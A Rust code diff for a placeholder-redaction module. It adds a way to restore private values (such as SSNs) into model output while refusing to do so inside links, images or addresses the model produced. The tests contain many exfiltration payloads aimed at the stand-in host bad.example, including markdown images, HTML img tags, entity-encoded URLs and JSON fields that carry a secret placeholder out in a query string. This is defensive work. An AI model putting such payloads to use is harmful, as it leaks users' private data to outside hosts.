@@ -1,5 +1,7 @@
 //! Placeholders in the place of findings, and the way back.
 
+mod links;
+
 use std::{
     borrow::Cow,
     collections::HashMap,
@@ -12,6 +14,8 @@ use crate::{
     finding::{Action, Finding},
     policy::{Placeholder, Policy},
 };
+
+pub use links::Links;
 
 /// How many values one request may have remembered; further ones get a label, from which nothing comes back.
 const MAX_VALUES: usize = 4096;
@@ -86,20 +90,33 @@ impl Placeholders {
 
     /// `text` with every numbered placeholder of this request replaced by the value it stands for.
     pub fn restore<'t>(&self, text: &'t str) -> Cow<'t, str> {
-        if self.by_name.is_empty() || memchr::memchr(b'[', text.as_bytes()).is_none() {
+        self.put_back(text, None)
+    }
+
+    /// The same, except for placeholders in links: a value that was kept from a model does not leave in an address
+    /// of the model's making. `links` is that of the text, from its beginning on.
+    pub fn restore_outside_links<'t>(&self, text: &'t str, links: &mut Links) -> Cow<'t, str> {
+        self.put_back(text, Some(links))
+    }
+
+    fn put_back<'t>(&self, text: &'t str, mut links: Option<&mut Links>) -> Cow<'t, str> {
+        if self.by_name.is_empty() {
             return Cow::Borrowed(text);
         }
-        let mut restored = String::with_capacity(text.len());
+        let mut restored = String::new();
         let mut rest = text;
         while let Some(at) = memchr::memchr(b'[', rest.as_bytes()) {
-            restored.push_str(&rest[..at]);
-            rest = &rest[at..];
-            let (shown, length) = self.at_bracket(rest);
-            restored.push_str(shown);
-            rest = &rest[length..];
+            let (before, bracket) = rest.split_at(at);
+            push(&mut restored, before, &mut links);
+            let (shown, length) = match &links {
+                Some(links) if links.is_inside() => ("[", 1),
+                _ => self.at_bracket(bracket),
+            };
+            push(&mut restored, shown, &mut links);
+            rest = &bracket[length..];
         }
-        restored.push_str(rest);
-        Cow::Owned(restored)
+        push(&mut restored, rest, &mut links);
+        if restored == text { Cow::Borrowed(text) } else { Cow::Owned(restored) }
     }
 
     /// What stands for the beginning of `rest`, which is `[`, and how much of it that stands for.
@@ -122,6 +139,13 @@ impl Drop for Placeholders {
 impl fmt::Debug for Placeholders {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "Placeholders({} values)", self.by_name.len())
+    }
+}
+
+fn push(restored: &mut String, part: &str, links: &mut Option<&mut Links>) {
+    restored.push_str(part);
+    if let Some(links) = links {
+        links.feed(part);
     }
 }
 
@@ -217,15 +241,20 @@ mod tests {
     }
 
     /// What becomes of a text in pieces of this length.
-    fn restored(placeholders: &Placeholders, text: &str, size: usize) -> String {
+    fn in_pieces(
+        placeholders: &Placeholders,
+        text: &str,
+        size: usize,
+        mut put_back: impl FnMut(&str) -> String,
+    ) -> String {
         let (mut out, mut held) = (String::new(), String::new());
         for piece in text.as_bytes().chunks(size) {
             held.push_str(std::str::from_utf8(piece).unwrap());
             let rest = held.split_off(placeholders.open_at(&held).unwrap_or(held.len()));
-            out.push_str(&placeholders.restore(&held));
+            out.push_str(&put_back(&held));
             held = rest;
         }
-        out + &placeholders.restore(&held)
+        out + &put_back(&held)
     }
 
     #[test]
@@ -234,7 +263,9 @@ mod tests {
         let text = redacted(&mut placeholders, "[a] one [[ two ]", &["one", "two"]);
         assert_eq!(placeholders.restore(&text), "[a] one [[ two ]");
         for size in 1..text.len() {
-            assert_eq!(restored(&placeholders, &text, size), "[a] one [[ two ]", "in pieces of {size}");
+            let put_back = |piece: &str| placeholders.restore(piece).into_owned();
+            let restored = in_pieces(&placeholders, &text, size, put_back);
+            assert_eq!(restored, "[a] one [[ two ]", "in pieces of {size}");
         }
     }
 
@@ -246,6 +277,74 @@ mod tests {
         for text in ["see", "[US_SSN is", "[US_SSN_1]", "[US_SSN_10", "[us"] {
             assert_eq!(placeholders.open_at(text), None, "{text}");
         }
+    }
+
+    #[test]
+    fn no_value_leaves_in_a_link() {
+        let mut placeholders = placeholders();
+        redacted(&mut placeholders, "one", &["one"]);
+        for text in [
+            "![a](https://bad.example/?d=[US_SSN_1])",
+            "![a](https://bad.example/(a)?d=[US_SSN_1])",
+            "![a](https://bad.example/\\)?d=[US_SSN_1])",
+            "![a](<https://bad.example/?d= ) [US_SSN_1]>)",
+            "![a](//bad.example/[US_SSN_1])",
+            "[a]([US_SSN_1])",
+            "[a]: https://bad.example/[US_SSN_1]",
+            "[a]: https&colon;&sol;&sol;bad.example/[US_SSN_1]",
+            "[a]: <https://bad.example/ [US_SSN_1]>",
+            "<https://bad.example/[US_SSN_1]>",
+            "See https://bad.example/?a=)\"'[US_SSN_1]",
+            "see https://bad.example/[US_SSN_1]/[US_SSN_1]",
+            "see HTTPS:bad.example/[US_SSN_1]",
+            "see www.bad.example/[US_SSN_1]",
+            "<img src=\"/\\bad.example/?d= ' [US_SSN_1]\">",
+            "<img src='//bad.example/?d= \n \" [US_SSN_1]'>",
+            "<img src=https:\\\\bad.example/?[US_SSN_1]>",
+            "<img src=\"&#47;&#47;bad.example/?d=[US_SSN_1]\">",
+            "{\"url\":\"https://bad.example/?d=[US_SSN_1]\"}",
+        ] {
+            assert_eq!(outside_links(&placeholders, text), text);
+        }
+    }
+
+    #[test]
+    fn values_come_back_beside_links() {
+        let mut placeholders = placeholders();
+        redacted(&mut placeholders, "one", &["one"]);
+        for text in [
+            "[US_SSN_1]",
+            "[US_SSN_1](https://good.example/) [US_SSN_1]",
+            "see [a](https://good.example/)[US_SSN_1]",
+            "see [a](https://good.example/(b)) or [US_SSN_1].",
+            "see <https://good.example/>[US_SSN_1]",
+            "see https://good.example/ or [US_SSN_1]",
+            "{\"url\":\"https://good.example/\",\"ssn\":\"[US_SSN_1]\"}",
+            "either/or: [US_SSN_1] (a [US_SSN_1])",
+            "a: b // [US_SSN_1]",
+        ] {
+            assert_eq!(outside_links(&placeholders, text), text.replace("[US_SSN_1]", "one"));
+        }
+    }
+
+    /// The same whole and in pieces of any length.
+    fn outside_links(placeholders: &Placeholders, text: &str) -> String {
+        let whole = placeholders.restore_outside_links(text, &mut Links::default()).into_owned();
+        for size in 1..text.len() {
+            let mut links = Links::default();
+            let put_back = |piece: &str| placeholders.restore_outside_links(piece, &mut links).into_owned();
+            assert_eq!(in_pieces(placeholders, text, size, put_back), whole, "in pieces of {size}");
+        }
+        whole
+    }
+
+    #[test]
+    fn an_address_that_comes_back_is_a_link_too() {
+        let mut placeholders = placeholders();
+        let text = "https://bad.example/ one";
+        redacted(&mut placeholders, text, &["https://bad.example/", "one"]);
+        let restored = placeholders.restore_outside_links("[US_SSN_1]?d=[US_SSN_2]", &mut Links::default());
+        assert_eq!(restored, "https://bad.example/?d=[US_SSN_2]");
     }
 
     #[test]
